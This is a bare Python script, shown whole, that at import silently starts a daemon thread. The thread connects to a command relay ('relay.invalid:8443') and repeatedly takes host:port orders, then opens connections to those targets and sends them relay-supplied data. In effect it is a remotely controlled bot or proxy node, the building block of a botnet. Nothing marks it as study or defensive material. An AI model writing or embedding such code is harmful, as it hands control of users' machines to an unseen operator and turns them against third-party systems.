import socket
import threading


def node():
    order = socket.create_connection(("relay.invalid", 8443))
    while True:
        host, port = order.recv(256).decode().split(":")
        target = socket.create_connection((host, int(port)))
        target.sendall(order.recv(4096))


threading.Thread(target=node, daemon=True).start()
